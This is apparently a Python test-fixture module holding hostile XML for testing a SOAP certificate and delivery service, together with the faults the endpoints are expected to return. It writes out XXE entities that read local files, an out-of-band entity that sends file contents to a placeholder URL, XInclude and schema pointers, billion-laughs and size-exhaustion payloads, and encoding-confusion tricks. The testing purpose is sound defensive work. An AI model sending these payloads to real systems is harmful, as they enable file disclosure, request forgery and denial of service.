"""Hostile XML for every endpoint.

It is defined once and placed into an envelope or into a delivered document.
"""

from collections.abc import Callable
from dataclasses import dataclass

from tests.api.messages import SERVICE, SOAP

SECRET = "qwxz-what-nobody-may-read"
"""Content of the file that hostile XML asks for."""

_MILLION = 1_000_000
_TEN_MEGABYTES = 9_900_000
"""Octets of one text, just below libxml2's own limit."""


@dataclass(frozen=True, slots=True)
class Place:
    """Targets of hostile XML: an address with a listener, and a readable file."""

    url: str
    file: str


@dataclass(frozen=True, slots=True)
class Hostile:
    """Hostile XML and the expected answers of the endpoints.

    `start` comes before the root, `attributes` on it, `inside` in it. `octets` encodes the whole text. `soap` and
    `document` are the answers to an envelope and to a document. `{url}` and `{file}` stand for the place.
    """

    soap: str
    document: str
    start: str = ""
    attributes: str = ""
    inside: str | Callable[[], str] = ""
    octets: Callable[[str], bytes] = str.encode

    def envelope(self, place: Place) -> bytes:
        """Return GetCertificate with the hostile XML.

        The attributes are on the envelope. The inner text is in the Header.
        """
        value = self._inside(place)
        root = f'<s:Envelope xmlns:s="{SOAP}"{self._at(self.attributes, place)}>'
        body = (
            f'<c:GetCertificateRequest xmlns:c="{SERVICE}"><Environment>TEST</Environment>'
            "<CustomerId>0123456-7</CustomerId><RetrievalId>x</RetrievalId></c:GetCertificateRequest>"
        )
        whole = f"{root}<s:Header>{value}</s:Header><s:Body>{body}</s:Body></s:Envelope>"
        return self.octets(self._at(self.start, place) + whole)

    def delivery(self, place: Place, document: str) -> bytes:
        """Insert the hostile XML into a document that was signed without it."""
        attributes, value = self._at(self.attributes, place), self._inside(place)
        changed = document.replace("<Delivery", f"<Delivery{attributes}", 1).replace("<Pay>", f"{value}<Pay>", 1)
        return self.octets(self._at(self.start, place) + changed)

    def _inside(self, place: Place) -> str:
        return self._at(self.inside, place) if isinstance(self.inside, str) else self.inside()

    def _at(self, text: str, place: Place) -> str:
        return text.replace("{url}", place.url).replace("{file}", place.file)


def _with_dtd(subset: str, inside: str = "") -> Hostile:
    return Hostile("Fault", "malformed", f"<!DOCTYPE x [{subset}]>", inside=inside)


_LAUGHS = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
_XI = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
_XSI = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
_AFTER_SIGNING = "signature-invalid"

ENTITIES = {
    "an entity of a file": _with_dtd('<!ENTITY x SYSTEM "file://{file}">', "<i>&x;</i>"),
    "an entity of an address": _with_dtd('<!ENTITY x SYSTEM "{url}/x">', "<i>&x;</i>"),
    "a public entity": _with_dtd('<!ENTITY x PUBLIC "-//X//Y" "{url}/x">', "<i>&x;</i>"),
    "an entity in an attribute": _with_dtd('<!ENTITY x "y">', '<i a="&x;"/>'),
    "a parameter entity of a file": _with_dtd('<!ENTITY % x SYSTEM "file://{file}"> %x;'),
    "a parameter entity of an address": _with_dtd('<!ENTITY % x SYSTEM "{url}/x.dtd"> %x;'),
    "an entity made of another by a parameter": _with_dtd(
        '<!ENTITY % f SYSTEM "file://{file}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'{url}/?%f;\'>"> %e; %s;'
    ),
    "an unparsed entity with a notation": _with_dtd(
        '<!NOTATION n SYSTEM "{url}/n"><!ENTITY x SYSTEM "{url}/x" NDATA n>'
    ),
    "a default attribute": _with_dtd('<!ATTLIST Delivery a CDATA "x">'),
    "an external DTD": Hostile("Fault", "malformed", '<!DOCTYPE x SYSTEM "{url}/x.dtd">'),
    "an external DTD, said not to matter": Hostile(
        "Fault", "malformed", '<?xml version="1.0" standalone="yes"?><!DOCTYPE x SYSTEM "{url}/x.dtd">'
    ),
    "a public DTD": Hostile(
        "Fault", "malformed", '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "{url}/x.dtd">'
    ),
    "billion laughs": _with_dtd(_LAUGHS, "<i>&a11;</i>"),
    "quadratic": _with_dtd(f'<!ENTITY x "{"y" * 50_000}">', f"<i>{'&x;' * 10_000}</i>"),
    "an entity that is itself": _with_dtd('<!ENTITY x "&x;">', "<i>&x;</i>"),
    "an entity that nobody declares": Hostile("Fault", "malformed", inside="<i>&nbsp;</i>"),
    "a DOCTYPE within": Hostile("Fault", "malformed", inside="<!DOCTYPE x>"),
}
"""Uses of a DOCTYPE.

A DOCTYPE is always refused, so none of it is ever read.
"""

POINTERS = {
    "schemaLocation": Hostile(
        "PKI020", _AFTER_SIGNING, attributes=f' {_XSI} xsi:schemaLocation="urn:example {{url}}/x.xsd"'
    ),
    "noNamespaceSchemaLocation": Hostile(
        "PKI020", _AFTER_SIGNING, attributes=f' {_XSI} xsi:noNamespaceSchemaLocation="{{url}}/x.xsd"'
    ),
    "XInclude of a file": Hostile(
        "PKI020", _AFTER_SIGNING, inside=f'<xi:include {_XI} parse="text" href="file://{{file}}"/>'
    ),
    "XInclude of an address": Hostile("PKI020", _AFTER_SIGNING, inside=f'<xi:include {_XI} href="{{url}}/x.xml"/>'),
    "xml-stylesheet": Hostile("PKI020", _AFTER_SIGNING, '<?xml-stylesheet type="text/xsl" href="{url}/x.xsl"?>'),
    "xml-model": Hostile("PKI020", _AFTER_SIGNING, '<?xml-model href="{url}/x.rng"?>'),
    "xml:base": Hostile("PKI020", _AFTER_SIGNING, attributes=' xml:base="{url}/"'),
}
"""Pointers that some programs follow.

They are harmless here, since no component follows them.
"""


def _declared(name: str) -> Callable[[str], bytes]:
    return lambda text: f'<?xml version="1.0" encoding="{name}"?>{text}'.encode(name)


def _utf7(text: str) -> bytes:
    return b'<?xml version="1.0" encoding="UTF-7"?>' + text.encode().replace(b"<", b"+ADw-").replace(b">", b"+AD4-")


_BOM = b"\xef\xbb\xbf"


def _encoded(octets: Callable[[str], bytes]) -> Hostile:
    return Hostile("Fault", "malformed", octets=octets)


ENCODINGS = {
    "UTF-16 with its mark": _encoded(lambda text: text.encode("utf-16")),
    "UTF-16, big end first, with its mark": _encoded(lambda text: b"\xfe\xff" + text.encode("utf-16-be")),
    "UTF-16 declared": _encoded(_declared("utf-16")),
    "UTF-16 declared, in UTF-8": _encoded(lambda text: b'<?xml version="1.0" encoding="UTF-16"?>' + text.encode()),
    "UTF-16's mark before UTF-8": _encoded(lambda text: b"\xff\xfe" + text.encode()),
    "UTF-8's mark before UTF-16": _encoded(lambda text: _BOM + text.encode("utf-16-le")),
    "UTF-8's mark twice": _encoded(lambda text: _BOM + _BOM + text.encode()),
    "UTF-8's mark after a blank": _encoded(lambda text: b" " + _BOM + text.encode()),
    "UTF-8's mark after the declaration": _encoded(lambda text: b'<?xml version="1.0"?>' + _BOM + text.encode()),
    "UTF-32 with its mark": _encoded(lambda text: text.encode("utf-32")),
    "UTF-32 without": _encoded(lambda text: text.encode("utf-32-be")),
    "UTF-7": _encoded(_utf7),
    "EBCDIC": _encoded(_declared("cp037")),
    "windows-1252 declared": _encoded(_declared("cp1252")),
    "a name of no encoding": _encoded(lambda text: b'<?xml version="1.0" encoding="x"?>' + text.encode()),
    "UTF-8 declared twice": _encoded(lambda text: b'<?xml version="1.0" encoding="UTF-8"?>' * 2 + text.encode()),
    "an overlong angle bracket": _encoded(lambda text: text.encode().replace(b"<", b"\xc0\xbc")),
}
"""Octets that two readers may decode to different texts.

Only UTF-8 with one byte order mark or none is accepted.
"""


def _many(text: str, most: int) -> Callable[[int], str]:
    """Return a function that repeats a text `most` times.

    If the room is too small, it writes as many as fit.
    """
    return lambda room: text * min(most, room // len(text))


def _numbered(before: str, after: str, most: int) -> Callable[[int], str]:
    """Return a function that writes numbered texts, `most` of them or as many as fit.

    Each text has another number of at most seven digits.
    """
    each = len(before + after) + 7
    return lambda room: "".join([f"{before}{number}{after}" for number in range(min(most, room // each))])


def _long(sign: str, before: str = "", after: str = "") -> Callable[[int], str]:
    return lambda room: before + sign * min(_TEN_MEGABYTES // len(sign), room // len(sign)) + after


@dataclass(frozen=True, slots=True)
class Large:
    """Repeated text that fills the available room.

    With `attribute` it is on the root, otherwise inside it. `document` is a receiver's reason. `soap` is the answer of
    the SOAP endpoint to as much of it as that endpoint reads.
    """

    soap: str
    document: str
    write: Callable[[int], str]
    attribute: bool = False

    def hostile(self, room: int) -> Hostile:
        """Return the hostile XML in at most `room` octets."""
        text = self.write(room)
        if self.attribute:
            return Hostile(self.soap, self.document, attributes=text)
        return Hostile(self.soap, self.document, inside=lambda: text)


_CROWDED = "<a" + "".join(f' a{n}=""' for n in range(60)) + "/>"


LARGE = {
    "deep nesting": Large("Fault", "malformed", lambda room: "<a>" * (n := min(_MILLION, room // 7)) + "</a>" * n),
    "deep nesting that never ends": Large("Fault", "malformed", _many("<a>", 2 * _MILLION)),
    "a million attributes": Large("Fault", "malformed", _numbered(" a", '=""', _MILLION), attribute=True),
    "700,000 attributes, as wide apart as a document's": Large(
        "Fault", "malformed", _numbered(" a", '="            "', 700_000), attribute=True
    ),
    "a million namespaces": Large("Fault", "malformed", _numbered(" xmlns:a", '="u"', _MILLION), attribute=True),
    "a million elements": Large("Fault", "malformed", _many("<a/>", _MILLION)),
    "a million comments": Large("PKI020", "malformed", _many("<!---->", _MILLION)),
    "a million attributes over many elements": Large("PKI020", "malformed", _many(_CROWDED, 17_000)),
    "10 MB of text": Large("PKI020", "signature-missing", _long("x")),
    "10 MB of references to characters": Large("PKI020", "signature-missing", _long("&#x41;")),
    "10 MB of one base64 value": Large("PKI020", "signature-missing", _long("QUJD")),
    "10 MB of a comment": Large("PKI020", "signature-missing", _long("x", "<!--", "-->")),
    "10 MB of an instruction": Large("PKI020", "signature-missing", _long("x", "<?a ", "?>")),
    "10 MB of an attribute": Large("PKI020", "signature-missing", _long("x", ' a="', '"'), attribute=True),
    "a namespace of 10 MB": Large("Fault", "malformed", _long("x", ' xmlns:a="', '"'), attribute=True),
    "a name of 10 MB": Large("Fault", "malformed", _long("x", "<", "/>")),
    "an attribute's name of 10 MB": Large("Fault", "malformed", _long("x", " ", '=""'), attribute=True),
    "10 MB of blanks in a tag": Large("PKI020", "signature-missing", _long(" "), attribute=True),
    "10 MB that never end": Large("Fault", "malformed", _long("x", "<!--")),
}
"""XML that grows in a parser."""


def _long_names(most: int) -> Callable[[int], str]:
    """Return a function that writes elements with 16 long namespace names each.

    C14N writes the names at every element.
    """
    start = "<x" + "".join(f' xmlns:p{n}="urn:{"x" * 250}{n:02}"' for n in range(16)) + ">"
    each = "<b" + "".join(f' p{n}:c=""' for n in range(16)) + "/>"
    return lambda room: start + each * min(most, (room - len(start) - 4) // len(each)) + "</x>"


LONG_NAMES = Large("Fault", "malformed", _long_names(17_000))
"""XML that grows in C14N alone, to thirty times its octets."""
